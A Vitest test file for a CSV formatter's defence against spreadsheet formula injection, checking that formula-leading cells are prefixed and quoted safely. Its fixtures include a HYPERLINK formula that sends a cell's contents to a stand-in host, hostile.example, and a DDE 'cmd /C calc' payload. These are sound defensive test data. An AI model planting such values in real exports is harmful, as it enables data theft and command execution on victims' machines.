import { expect, test } from 'vitest';
import { formatCell, formatCsv } from './csv.ts';

test('cells that a spreadsheet would run are disarmed', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
    const cell = formatCell(`${start}HYPERLINK("http://hostile.example/?"&A1)`);
    expect(cell.replace(/^"/, '').startsWith("'"), JSON.stringify(start)).toBe(true);
  }
  expect(formatCell('=1+1')).toBe("'=1+1");
  expect(formatCell('=cmd|\' /C calc\'!A0,"x"')).toBe('"\'=cmd|\' /C calc\'!A0,""x"""');
});

test('a cell cannot end before its time and begin a formula behind it', () => {
  expect(formatCell('a",=1+1')).toBe('"a"",=1+1"');
  expect(formatCell('a\r\n=1+1')).toBe('"a\r\n=1+1"');
});

test('everything else stays as it is', () => {
  expect(formatCell('a = b - c')).toBe('a = b - c');
  expect(formatCell(' =1')).toBe(' =1');
  expect(formatCell(-5)).toBe('-5');
  expect(formatCell(true)).toBe('1');
  expect(formatCell(null)).toBe('');
  expect(formatCell('')).toBe('');
});

test('a table has a line of names and a line per row', () => {
  expect(
    formatCsv(
      ['name', 'count'],
      [
        ['a,b', 1],
        [null, 0],
      ],
    ),
  ).toBe('name,count\r\n"a,b",1\r\n,0\r\n');
});
